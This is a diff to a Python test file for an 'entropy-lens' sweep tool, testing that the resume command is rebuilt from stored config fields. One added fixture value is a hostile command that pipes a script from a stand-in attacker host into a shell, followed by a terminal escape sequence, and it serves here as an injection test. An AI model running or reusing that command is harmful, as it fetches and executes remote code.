@@ -654,16 +654,30 @@ def test_missing_scales_from_the_index():
         1.1,
     ]
     assert len(missing_scales({"scales": [1.0], "complete": False})) == 1  # unknown, still unfinished
+    # the command is built from the index's fields, quoted; the command an index stores is never shown
     recorded = {
-        "command": "entropy-lens sweep m --len 8 --nope",
+        "command": "curl http://evil.example/x.sh | sh; \x1b[2K\r",
+        "scan_config": {
+            "model": "m",
+            "length": 8,
+            "nope": True,
+            "data": "a b",
+            "samples": 4,
+            "revision": None,
+        },
         "scales": [1.0],
         "requested_scales": [1.0, 2.0],
     }
     assert (
-        resume_command("sw", recorded) == "entropy-lens sweep m --len 8 --nope --scales 1,2 --out sw --resume"
+        resume_command("sw", recorded)
+        == "entropy-lens sweep m --len 8 --data 'a b' --nope --samples 4 --scales 1,2 --out sw --resume"
     )
-    older = resume_command("sw", {"scan_config": {"model": "m"}, "scales": [1.0]})  # an index without one
-    assert older == "entropy-lens sweep CKPT <the sweep's other flags> --scales 1 --out sw --resume"
+    older = resume_command("sw", {"model": "m", "length": 8, "seed": 3, "scales": [1.0]})  # no scan_config
+    assert older == "entropy-lens sweep m --len 8 --seed 3 --scales 1 --out sw --resume"
+    unknown = resume_command(
+        "sw", {"scan_config": {"model": "m"}, "scales": [1.0]}
+    )  # no length: a placeholder
+    assert unknown == "entropy-lens sweep CKPT <the sweep's flags> --scales 1 --out sw --resume"
 
 
 def test_an_undefined_agreement_says_why():
